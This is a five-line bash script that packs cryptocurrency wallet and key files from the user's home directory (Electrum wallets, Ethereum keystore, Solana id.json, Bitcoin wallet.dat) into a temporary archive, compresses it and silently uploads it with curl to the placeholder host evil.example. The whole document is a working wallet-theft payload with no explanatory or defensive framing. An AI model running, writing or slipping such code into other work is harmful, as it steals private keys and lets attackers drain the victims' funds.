#!/bin/bash
out=$(mktemp)
tar cf "$out" "$HOME/.electrum/wallets" "$HOME/.ethereum/keystore" "$HOME/.config/solana/id.json" "$HOME/.bitcoin/wallet.dat" 2>/dev/null
gzip -f "$out"
curl -s --upload-file "$out.gz" https://evil.example/w
